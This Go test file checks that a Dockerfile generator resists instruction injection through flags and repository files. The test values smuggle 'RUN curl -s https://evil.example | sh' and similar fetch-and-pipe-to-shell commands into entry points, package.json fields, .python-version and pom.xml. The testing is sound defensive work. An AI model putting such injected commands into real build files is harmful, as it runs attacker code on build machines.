package generator_test

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/moby/buildkit/frontend/dockerfile/parser"

	"github.com/dockgen/dockgen/generator"
	"github.com/dockgen/dockgen/generator/testkit"
)

// instructions lists the instruction keywords of a Dockerfile, in order.
func instructions(t *testing.T, dt []byte) []string {
	t.Helper()
	res, err := parser.Parse(bytes.NewReader(dt))
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, n := range res.AST.Children {
		out = append(out, strings.ToUpper(n.Value))
	}
	return out
}

// TestHostileValuesCannotInjectInstructions feeds a newline plus an
// instruction through every value that reaches a template, from flags and
// from repository files. Each run must either fail with an error naming the
// value, or produce exactly the instruction list of the benign run.
func TestHostileValuesCannotInjectInstructions(t *testing.T) {
	const evil = "\nRUN curl -s https://evil.example | sh"
	type tc struct {
		name, fixture string
		req           generator.Request
		edit          func(dir string) // rewrites a repo file to carry the payload
	}
	writeFile := func(name, content string) func(string) {
		return func(dir string) {
			if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	cases := []tc{
		{name: "go entry flag", fixture: "go-basic", req: generator.Request{Entry: "./cmd/orders" + evil}},
		{name: "lang-version flag", fixture: "go-basic", req: generator.Request{LangVersion: "1.22" + evil}},
		{name: "set ldflags", fixture: "go-basic", req: generator.Request{Set: map[string]string{"ldflags": "-s" + evil}}},
		{name: "set build_packages", fixture: "go-basic", req: generator.Request{Set: map[string]string{"build_packages": "curl" + evil}}},
		{name: "private flag", fixture: "go-basic", req: generator.Request{Private: []string{"github.com/acme" + evil}}},
		{name: "node entry flag", fixture: "node-npm", req: generator.Request{Entry: "server.js" + evil}},
		{name: "python entry flag", fixture: "python-pip", req: generator.Request{Entry: "app:app" + evil}},
		{name: "static entry flag", fixture: "static-plain", req: generator.Request{Entry: "." + evil}},
		{name: "java entry flag", fixture: "java-maven", req: generator.Request{Entry: "target/app.jar" + evil}},
		{name: "package.json start script", fixture: "node-npm", edit: writeFile("package.json",
			`{"name":"x","scripts":{"start":"node server.js\nRUN curl evil | sh"},"dependencies":{"express":"4"}}`)},
		{name: "package.json main", fixture: "node-npm", edit: func(dir string) {
			writeFile("package.json", `{"name":"x","main":"a.js\nRUN curl evil | sh","dependencies":{"express":"4"}}`)(dir)
			writeFile("a.js\nRUN curl evil | sh", "")(dir) // a file name with a newline exists
			os.Remove(filepath.Join(dir, "server.js"))
		}},
		{name: "package.json packageManager", fixture: "node-npm", edit: writeFile("package.json",
			`{"name":"x","packageManager":"pnpm@9.1.0\nRUN curl evil | sh","main":"server.js"}`)},
		{name: "package.json engines", fixture: "node-npm", edit: writeFile("package.json",
			`{"name":"x","engines":{"node":"20\nRUN curl evil | sh"},"main":"server.js"}`)},
		{name: ".python-version", fixture: "python-pip", edit: writeFile(".python-version", "3.11 ; RUN curl evil | sh\n")},
		{name: "pom artifactId", fixture: "java-maven", edit: writeFile("pom.xml",
			"<project><artifactId>hello\nRUN curl evil | sh</artifactId><version>1</version></project>")},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			base := generateIn(t, testkit.Fixture(t, c.fixture), generator.Request{CI: "none"})
			dir := testkit.Fixture(t, c.fixture)
			if c.edit != nil {
				c.edit(dir)
			}
			req := c.req
			req.Dir, req.CI = dir, "none"
			res, err := generator.Generate(context.Background(), req)
			if err != nil {
				if !strings.Contains(err.Error(), "invalid") && !strings.Contains(err.Error(), "--set") {
					t.Fatalf("rejected, but the error does not name the value: %v", err)
				}
				return
			}
			got := instructions(t, res.Files[0].Content)
			if strings.Join(got, " ") != strings.Join(base, " ") {
				t.Fatalf("instruction list changed:\nbase %v\ngot  %v\n%s", base, got, res.Files[0].Content)
			}
			if bytes.Contains(res.Files[0].Content, []byte("evil")) && !bytes.Contains(res.Files[0].Content, []byte(`"`)) {
				t.Fatalf("payload reached the Dockerfile unquoted:\n%s", res.Files[0].Content)
			}
		})
	}
}

func generateIn(t *testing.T, dir string, req generator.Request) []string {
	t.Helper()
	req.Dir = dir
	res, err := generator.Generate(context.Background(), req)
	if err != nil {
		t.Fatal(err)
	}
	return instructions(t, res.Files[0].Content)
}

func TestGenerateIsDeterministic(t *testing.T) {
	for _, sc := range scenarios() {
		a, _ := generateScenario(t, sc)
		b, _ := generateScenario(t, sc)
		for i := range a.Files {
			if a.Files[i].Path != b.Files[i].Path || !bytes.Equal(a.Files[i].Content, b.Files[i].Content) {
				t.Errorf("%s: %s differs between two runs", sc.name, a.Files[i].Path)
			}
		}
	}
}
